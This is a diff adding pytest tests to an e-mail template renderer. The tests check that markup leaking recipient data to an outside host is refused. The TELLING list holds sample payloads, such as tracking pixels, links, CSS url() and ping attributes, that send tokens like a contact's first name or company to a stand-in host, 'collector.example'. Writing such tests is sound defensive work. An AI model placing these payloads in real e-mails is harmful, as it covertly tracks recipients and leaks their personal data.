@@ -1,13 +1,17 @@
 """What an e-mail says after a partner and a touch have been filled in."""
 
 import html
+from dataclasses import replace
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cobranding.rendering.errors import ValuesRefused
+from cobranding.rendering.building import build
+from cobranding.rendering.errors import DocumentInvalid, ValuesRefused
 from cobranding.rendering.mail import compose
+from cobranding.rendering.reading import read
 from cobranding.rendering.tokens import MERGED
 from tests.factories import cobranding as factory
 
@@ -75,3 +79,65 @@ def test_a_kits_text_with_an_unknown_token_is_refused_by_name() -> None:
     with pytest.raises(ValuesRefused) as refused:
         compose(factory.mail_inputs(texts={"body": "Hello {{contact.iban}}"}))
     assert refused.value.errors == {"body": ["does not know the token {{contact.iban}}"]}
+
+
+PLACE = "<mj-text>{{offer}}</mj-text>"
+TELLING = [
+    '<mj-image src="https://collector.example/p.png?f={{contact.first_name}}&amp;u={{unsubscribe_url}}" />',
+    '<mj-image src="https://collector.example/p.png" />',
+    '<mj-image src="{{image.hero}}" srcset="https://collector.example/p.png 1x" />',
+    '<mj-image src="{{partner_logo}}" href="https://collector.example/?f={{ contact.first_name }}" />',
+    '<mj-button href="https://collector.example/?b={{text.body}}">Go</mj-button>',
+    '<mj-button href="{{view_url}}{{contact.company}}">Go</mj-button>',
+    '<mj-text><a href="https://collector.example/{{subject}}">Go</a></mj-text>',
+    "<mj-text><a href='https://collector.example/{{view_url}}'>Go</a></mj-text>",
+    '<mj-text><span style="color:{{contact.company}}">x</span></mj-text>',
+    "<mj-text><span style=\"background:image-set('https://collector.example/p.png' 1x)\">x</span></mj-text>",
+    '<mj-text container-background-color="url(https://collector.example/{{contact.company}})">x</mj-text>',
+    '<mj-text><a href="https://a.example/" ping="https://collector.example/">x</a></mj-text>',
+    "<mj-raw><table><tr><td background='https://collector.example/p.png'>x</td></tr></table></mj-raw>",
+    "<mj-text>See https://collector.example/?f={{contact.first_name}} now</mj-text>",
+    "<mj-text>See www.<b>collector</b>.example/{{contact.first_name}}</mj-text>",
+]
+IN_THE_HEAD = "<mj-style>a { background: url(https://collector.example/{{contact.company}}) }</mj-style>"
+
+
+def telling(markup: str) -> dict[str, Any]:
+    raw = factory.email()
+    place = "</mj-head>" if markup.startswith("<mj-style") else PLACE
+    raw["email"]["mjml"] = raw["email"]["mjml"].replace(place, markup + place)
+    raw["email"]["subject"] = {"en": "For {{contact.first_name}}", "de": "An {{contact.first_name}}"}
+    raw["email"]["texts"]["body"] = {"en": "Dear {{contact.first_name}}", "de": "Hallo {{contact.first_name}}"}
+    return raw
+
+
+@pytest.mark.parametrize("markup", [*TELLING, IN_THE_HEAD])
+def test_no_address_and_no_picture_of_others_tells_who_reads(markup: str) -> None:
+    raw = telling(markup)
+    published_before = replace(factory.mail_inputs(), content_hash=markup, document=build(raw))
+    with pytest.raises(ValuesRefused) as refused:
+        compose(published_before)
+    assert "email.mjml" in refused.value.errors
+    if "<b>" not in markup:
+        with pytest.raises(DocumentInvalid) as invalid:
+            read(raw)
+        assert "email.mjml" in invalid.value.errors
+
+
+def test_a_kits_text_that_puts_a_contact_into_an_address_is_refused() -> None:
+    with pytest.raises(ValuesRefused) as refused:
+        compose(factory.mail_inputs(texts={"body": "https://collector.example/?f={{ contact.first_name }}"}))
+    assert "body" in refused.value.errors
+
+
+def test_a_recipient_is_greeted_in_words_and_pictures_of_ours_are_shown() -> None:
+    raw = telling('<mj-image src="{{partner_logo}}" alt="For {{contact.company}}" href="{{view_url}}" />')
+    read(raw)
+    raw = telling(
+        '<mj-image src="{{partner_logo}}" alt="For {{contact.company}}" href="{{view_url}}" /></mj-column></mj-section>'
+        '<mj-section background-url="{{partner_logo}}" background-size="cover"><mj-column>'
+    )
+    read(raw)
+    page = compose(factory.mail_inputs(raw)).html
+    assert 'alt="For {{contact.company}}"' in page
+    assert "url('https://portal.example/m/abc')" in page
